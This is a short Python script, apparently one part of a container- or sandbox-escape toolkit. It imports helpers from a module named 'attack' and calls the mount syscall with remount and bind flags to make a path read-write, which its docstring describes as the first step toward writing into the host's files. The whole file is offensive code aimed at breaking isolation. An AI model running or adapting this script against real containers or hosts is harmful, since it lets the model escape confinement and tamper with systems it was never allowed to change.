"""Remounts a path (argument) read-write, the first half of writing into the host's files."""
from attack import *

MS_REMOUNT, MS_BIND = 0x20, 0x1000
attempt(lambda: syscall("mount", b"none", sys.argv[1].encode(), 0, MS_REMOUNT | MS_BIND, 0))
